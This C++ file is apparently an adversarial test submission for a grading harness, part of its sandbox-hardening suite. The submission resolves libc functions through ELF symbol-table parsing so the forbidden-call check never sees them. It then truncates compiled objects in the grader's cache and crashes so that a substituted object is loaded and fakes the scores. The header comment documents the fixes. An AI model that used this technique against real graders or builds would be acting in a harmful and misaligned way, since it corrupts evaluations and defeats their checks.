// Rewrites its own compiled object in the grading's build cache (cache/*/submission.so, in its work folder, which the graded process could write), then crashes: the next worker child of the same grading dlopens what it left there.  Truncated here, so the grading said "the compiled submission could not be loaded"; an object written in its place (a glue whose rg_glue_run sums the input on the host, built offline from the kit's public headers) was loaded, with no build check, no emulator and no host-reduction watch.  Now, on every backend, each child loads a copy the grader sealed (harness/run/sealed_objects.c) and a cache file changed meanwhile is removed after the grading; on the emulator Landlock also keeps the graded process out of the cache (it runs in work/run, harness/batch/batch_start.c).
// Exercise 07 (host entry points, see harness/CONTRACTS.md); graded by tests/kit/batch-class-attacks.sh (Landlock on: refused) and tests/kit/cache-object-sealed.sh (Landlock off, and on a GPU: REWROTE, every case a crash, never "could not be loaded", nothing rewritten left in the cache); not in batch-hostile's class.
// It reaches opendir, readdir, open and ftruncate through libc's symbol table (libc_function),
// never naming them, as a real attacker would: the build's name check (forbidden-call) does
// not see it, and the sandbox is what must hold.
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// libc's function called want, found in libc's own dynamic symbol table:
// the ELF header of the library that holds puts lies on a page boundary at
// or below puts.
static void *libc_function(const char *want)
{
    uintptr_t at = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0)
        at -= 4096;
    const Elf64_Ehdr *elf = (const Elf64_Ehdr *)at;
    const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + elf->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < elf->e_phnum; i++)
        if (seg[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(at + seg[i].p_vaddr);
    const Elf64_Sym *table = nullptr;
    const char *strings = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr < at ? at + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            table = (const Elf64_Sym *)p;
        else if (dyn->d_tag == DT_STRTAB)
            strings = (const char *)p;
    }
    for (const Elf64_Sym *s = table + 1; table && strings && (const char *)s < strings; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(strings + s->st_name, want) == 0)
            return (void *)(at + s->st_value);
    return nullptr;
}

#include <dirent.h>

typedef DIR *(*opendir_fn)(const char *);
typedef struct dirent *(*readdir_fn)(DIR *);
typedef int (*open_fn)(const char *, int, ...);
typedef int (*ftruncate_fn)(int, long);

// Every submission.so one level under cache/ (from the working folder,
// where the batch ran the graded process, and the folders above it: the
// folder of its own where it prints lies in the work folder's run/),
// truncated; says which.
static void rewrite_objects()
{
    opendir_fn od = (opendir_fn)libc_function("opendir");
    readdir_fn rd = (readdir_fn)libc_function("readdir");
    open_fn op = (open_fn)libc_function("open");
    ftruncate_fn tr = (ftruncate_fn)libc_function("ftruncate");
    if (!od || !rd || !op || !tr)
        return;
    const char *roots[] = { "cache", "../cache", "../../cache" };
    for (const char *root : roots) {
        DIR *top = od(root);
        for (struct dirent *e; top && (e = rd(top));) {
            char p[600];
            std::snprintf(p, sizeof p, "%s/%s/submission.so", root, e->d_name);
            if (e->d_name[0] == '.' || std::strncmp(e->d_name, "glue-", 5) == 0)
                continue;
            int fd = op(p, 01 /* O_WRONLY */);
            if (fd >= 0 && tr(fd, 0) == 0)
                std::printf("REWROTE %s\n", p);
            else
                std::printf("refused %s\n", p);
        }
    }
    std::fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    rewrite_objects();
    *(volatile int *)nullptr = 1; // a crash: the worker starts a new child
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
